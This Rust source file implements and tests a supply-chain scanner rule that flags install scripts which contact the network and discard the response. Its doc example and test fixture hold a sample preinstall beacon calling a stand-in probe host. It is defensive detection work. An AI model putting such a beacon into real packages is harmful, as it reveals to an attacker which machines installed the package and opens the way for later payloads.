//! ## What it does
//! Fires for code run by an install script that contacts the network and ignores the answer:
//! a request whose response body is never read, no file is written and nothing is piped — a
//! beacon. (Downloads that save what they fetch — native binaries, browsers — are what many
//! legitimate install scripts do, and are left to `download-execute`; requests that carry
//! host identity are `dependency-confusion`.)
//!
//! ## Why is this bad?
//! An install-time ping tells an attacker which machines installed a package and is the first
//! step of every dependency-confusion probe; the same hook can deliver anything later.
//!
//! ## Example
//! ```js
//! // preinstall: node app.js
//! http.get(`http://${name}.package.probe.example`, res => console.log(res.statusCode));
//! ```
//! Benign look-alike: a postinstall that downloads a prebuilt binary and writes it to disk.
//!
//! ## Motivated by
//! The preinstall beacons of dependency-confusion probes; ua-parser-js 0.7.29, coa and rc
//! (install scripts that fetched payloads).

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter, SendKind};
use crate::js::facts::FsKind;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    if !ctx.install_time
        || out.has(AlertId::DependencyConfusion)
        || out.has(AlertId::ExfilEndpoint)
        || out.has(AlertId::EnvExfiltration)
    {
        return;
    }
    let consumed = !ctx.facts.body_reads.is_empty()
        || !ctx.facts.pipes.is_empty()
        || ctx.facts.fs.iter().any(|op| op.kind == FsKind::Write)
        || !ctx.facts.execs.is_empty();
    if consumed {
        return;
    }
    if let Some(send) = ctx.sends().iter().find(|s| {
        !s.local
            && matches!(
                s.kind,
                SendKind::Request | SendKind::Dns | SendKind::Connect
            )
    }) {
        out.report(
            AlertId::InstallTimeNetwork,
            AlertSeverity::High,
            send.span,
            format!(
                "`{}` contacts the network at install time and ignores the answer",
                send.callee
            ),
            send.url_texts(),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    const BEACON: &str = "const http = require('http');\nconst name = 'pkg';\nhttp.get(`http://${name}.package.probe.example`, (res) => {\n  if (res.statusCode === 200) console.log('ok');\n});";

    #[test]
    fn install_time_beacon_fires() {
        fires(
            BEACON,
            true,
            AlertId::InstallTimeNetwork,
            AlertSeverity::High,
        );
    }

    #[test]
    fn runtime_beacon_and_install_time_download_do_not() {
        silent(BEACON, false, AlertId::InstallTimeNetwork);
        silent(
            "const https = require('https'), fs = require('fs');\nhttps.get('https://dl.example/tool.tgz', res => res.pipe(fs.createWriteStream('tool.tgz')));",
            true,
            AlertId::InstallTimeNetwork,
        );
    }
}
